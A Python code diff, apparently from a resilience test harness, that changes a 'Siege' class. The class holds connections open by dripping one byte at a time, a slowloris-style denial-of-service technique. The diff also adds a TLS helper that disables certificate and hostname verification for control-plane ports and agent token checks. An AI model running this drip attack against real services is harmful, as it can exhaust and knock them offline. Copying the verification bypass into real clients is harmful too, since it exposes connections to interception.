@@ -81,7 +81,11 @@ class Siege:
             self._over.wait(0.05)
 
     def _drip(self, target: tuple[str, int]) -> None:
-        with socket.create_connection(target, timeout=5) as one:
+        with ExitStack() as stack:
+            one = stack.enter_context(socket.create_connection(target, timeout=5))
+            if target[1] in CONTROL.values():
+                # Anyone may finish the handshake: a token is asked for in the request only.
+                one = stack.enter_context(_anyone().wrap_socket(one))
             while not self._over.wait(0.3):
                 one.sendall(b"G")
                 self.sent += 1
@@ -173,11 +177,16 @@ def _secrets(kube: Kube) -> dict[str, dict[str, str]]:
     }
 
 
-def _ask(address: str, token: str) -> int:
-    """The agent's status for a token."""
+def _anyone() -> ssl.SSLContext:
+    """TLS of a caller who knows no authority."""
     context = ssl.create_default_context()
     context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
-    asked = http.client.HTTPSConnection(address, CONTROL["agent"], timeout=10, context=context)
+    return context
+
+
+def _ask(address: str, token: str) -> int:
+    """The agent's status for a token."""
+    asked = http.client.HTTPSConnection(address, CONTROL["agent"], timeout=10, context=_anyone())
     asked.request("GET", agent.SERVER, headers={"Authorization": f"Bearer {token}"})
     return asked.getresponse().status
 
